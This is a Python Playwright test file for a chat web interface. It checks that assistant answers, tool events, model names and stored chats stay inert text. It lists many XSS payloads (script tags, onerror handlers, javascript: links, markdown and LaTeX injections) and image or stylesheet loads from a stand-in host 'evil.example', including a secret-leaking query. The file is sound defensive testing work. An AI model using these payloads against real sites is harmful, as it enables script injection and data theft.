"""Nothing that a model, a tool, a source or the server's lists say runs or loads anything.

The guard of `open_chat` fails a test on any dialog, error, request elsewhere or broken policy; `window.hacked` is what
every attack here sets.
"""

from __future__ import annotations

from typing import Any

import pytest

ATTACKS = [
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "<svg onload=window.hacked=1></svg>",
    "<svg><style><img src=x onerror=window.hacked=1></style></svg>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hacked=1&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=window.hacked=1></annotation-xml></math>",
    "<iframe srcdoc=\"<script>parent.hacked=1</script>\"></iframe>",
    "<details open ontoggle=window.hacked=1><summary>x</summary></details>",
    "<input autofocus onfocus=window.hacked=1>",
    "<a href=javascript:window.hacked=1 id=clickme>x</a>",
    "<style>@import 'http://evil.example/x.css'; * { background: url(http://evil.example/y) }</style>",
    "<p style=\"background:url(http://evil.example/z)\">x</p>",
    "<link rel=stylesheet href=http://evil.example/x.css><base href=http://evil.example/>",
    "<form action=http://evil.example/><button id=clickme>x</button></form>",
    "<form id=scroller><input name=parentNode></form><img name=body id=messages>",
    "![x](http://evil.example/x.png?q=secret)",
    "![x\"onerror=window.hacked=1](http://evil.example/\"onerror=window.hacked=1)",
    "[x](javascript:window.hacked=1 \"title\")",
    "[x](http://evil.example/\"onmouseover=\"window.hacked=1)",
    "```\"><img/src=x/onerror=window.hacked=1>\ncode\n```",
    "```html\n<img src=x onerror=window.hacked=1>\n</code></pre><script>window.hacked=1</script>\n```",
    "`<img src=x onerror=window.hacked=1>`",
    "| <img src=x onerror=window.hacked=1> |\n|---|\n| <script>window.hacked=1</script> |",
    "&lt;img src=x onerror=window.hacked=1&gt; &#60;script&#62;window.hacked=1&#60;/script&#62;",
]
FORMULAS = [
    r"$\href{javascript:window.hacked=1}{x}$", r"$\url{javascript:window.hacked=1}$",
    r"$\htmlData{x=1}{\htmlStyle{background:url(http://evil.example)}{x}}$",
    r"$\htmlId{messages}{\htmlClass{quiet}{x}}$",
    r"$\includegraphics[height=1em]{http://evil.example/x.png}$",
    r"$\color{red;background:url(http://evil.example/x)}x$", r"$\text{<img src=x onerror=window.hacked=1>}$",
    r"$\def\a{\a\a}\a$", r"$\rule{100000em}{100000em}$", r"$\kern{-9999em}x$",
    "$" + "{" * 2000 + "}" * 2000 + "$",
    r"$\unicode{x3c}script>$ $\char`\<$",
]
REMOTE = "script, style, iframe, object, embed, form, input, link, base, meta, [onerror], [onload], [onfocus], [id]"


def harmless(page: Any, where: str) -> None:
    page.wait_for_timeout(60)  # what would load or run had its time
    for link in page.locator(f"{where} a").all():
        address = link.get_attribute("href") or ""
        assert address.startswith(("http:", "https:", "mailto:"))
    assert page.locator(where).locator(REMOTE).count() == 0
    assert page.locator(f"{where} img").evaluate_all("all => all.every((one) => one.src.startsWith('data:image/'))")
    assert page.evaluate("window.hacked ?? 0") == 0


def answered(page: Any, standin: Any, script: list[Any], question: str = "hello") -> None:
    standin.script = script
    page.fill("#input", question)
    page.press("#input", "Enter")
    page.locator("li.assistant .actions").last.wait_for()


def test_the_attacks_do_run_where_nothing_is_in_their_way(browser: Any, standin: Any) -> None:
    context = browser.new_context(bypass_csp=True)
    page = context.new_page()
    page.goto(standin.url)
    page.evaluate("place => { document.body.innerHTML = '<img src=x onerror=window.hacked=1>' }")
    page.wait_for_function("window.hacked === 1")
    context.close()


def test_the_page_itself_can_take_no_markup(browser: Any, standin: Any) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(standin.url)
    refused = page.evaluate("""() => {
      try { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); return false; } catch { return true; }
    }""")
    assert refused
    context.close()


@pytest.mark.parametrize("texts", [ATTACKS, FORMULAS], ids=["markup", "formulas"])
def test_an_answer_that_attacks_stays_text(chat: Any, standin: Any, texts: list[str]) -> None:
    answered(chat, standin, [part for text in texts for part in (text[:7], text[7:], "\n\n")])
    harmless(chat, "#messages")
    said = chat.locator("li.assistant .text").last.text_content()
    assert "window.hacked=1" in said  # they came through as what they are
    chat.reload()
    chat.locator(".chat").click()
    chat.locator("li.assistant .actions").wait_for()
    harmless(chat, "#messages")


def test_an_attack_that_is_still_growing_stays_text(chat: Any, standin: Any) -> None:
    script: list[Any] = []
    for text in ATTACKS[:6]:
        script += [*(text[at:at + 3] for at in range(0, len(text), 3)), 0.02, "\n\n"]
    answered(chat, standin, script)
    harmless(chat, "#messages")


def test_tools_that_attack_stay_text(chat: Any, standin: Any) -> None:
    script: list[Any] = []
    for number, attack in enumerate(ATTACKS):
        script += [
            {"type": "call", "id": f"{number}", "name": attack, "arguments": attack},
            {"type": "observation", "id": f"{number}", "text": attack, "failed": False,
             "images": [attack, "http://evil.example/x.png", "javascript:window.hacked=1",
                        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.hacked=1'/>",
                        "data:text/html,<script>window.hacked=1</script>"],
             "sources": [["javascript:window.hacked=1", attack], ["data:text/html,x", "x"], [attack, attack],
                         ["http://safe.example/", attack]]},
            {"type": attack, "id": attack}, {"type": "budget", "what": attack},
        ]
    answered(chat, standin, [*script, "done"])
    chat.evaluate("document.querySelectorAll('details').forEach((fold) => { fold.open = true; })")
    harmless(chat, "#messages")
    assert chat.locator("#messages img").count() == 0
    links = chat.locator("#messages a").evaluate_all("all => [...new Set(all.map((link) => link.href))]")
    assert links == ["http://safe.example/"]
    chat.set_viewport_size({"width": 320, "height": 600})
    assert chat.evaluate("document.documentElement.scrollWidth") == 320


@pytest.mark.parametrize("event", [
    {"type": "call"}, {"type": "observation"}, {"type": "call", "id": {}, "name": 7, "arguments": {"a": [1]}},
    {"type": "observation", "id": 1, "text": {"a": 1}, "images": "x", "sources": [1, ["a"], None]}, {"type": None}, {},
    {"type": "budget"}, {"type": "call", "id": "__proto__", "name": "constructor", "arguments": None},
    {"type": "budget", "what": "constructor"},
], ids=range(9))
def test_events_of_another_form_break_nothing(chat: Any, standin: Any, event: dict[str, Any]) -> None:
    answered(chat, standin, ["before", event, "after"])
    assert chat.locator("li.assistant .text").all_text_contents()[-1] in ("after", "beforeafter")
    chat.reload()
    chat.locator(".chat").click()
    chat.locator("li.assistant .text", has_text="after").wait_for()


def test_names_that_attack_stay_text(open_chat: Any, standin: Any) -> None:
    standin.models = [{"id": attack, "max_model_len": 64} for attack in ATTACKS[:8]]
    standin.models.append({"id": ATTACKS[1] + "2", "parent": ATTACKS[1]})
    standin.tools = [{"type": attack, "label": attack} for attack in ATTACKS[:8]]
    page = open_chat()
    page.locator(".tool").first.wait_for()
    assert page.locator("#models option").all_text_contents() == [model["id"] for model in standin.models]
    page.select_option("#models", ATTACKS[2])
    page.locator(".tool").nth(1).click()
    answered(page, standin, ["x"], question=ATTACKS[3])
    assert (standin.asked[-1]["model"], standin.asked[-1]["tools"]) == (ATTACKS[2], [{"type": ATTACKS[1]}])
    for where in ("#messages", "#chats", "#tools"):
        harmless(page, where)
    assert page.title() == f"{ATTACKS[3][:60]} · Headwater"


def test_what_was_kept_cannot_attack(chat: Any) -> None:
    chat.evaluate("""([attack]) => {
      const sources = [['javascript:window.hacked=1', 'x']];
      const message = { role: 'assistant', content: attack, model: attack, ended: 'failed', detail: attack,
        agent: [{ type: 'observation', id: 1, at: 0, images: [attack], sources }] };
      const messages = [{ role: 'user', content: attack }, message];
      const kept = { id: attack, title: attack, updated: 1, messages };
      localStorage.setItem('headwater.chat.' + attack, JSON.stringify(kept));
      localStorage.setItem('headwater.chat.broken', '{');
      localStorage.setItem('headwater.chat.none', 'null');
      localStorage.setItem('headwater.chat.other', '{"id": "other", "title": "x", "messages": [null]}');
      localStorage.setItem('headwater.theme', attack);
      localStorage.setItem('headwater.language', attack);
    }""", [ATTACKS[1]])
    chat.reload()
    chat.locator(".chat").click()
    chat.locator("li.assistant .actions").wait_for()
    harmless(chat, "#messages")
    harmless(chat, "#chats")
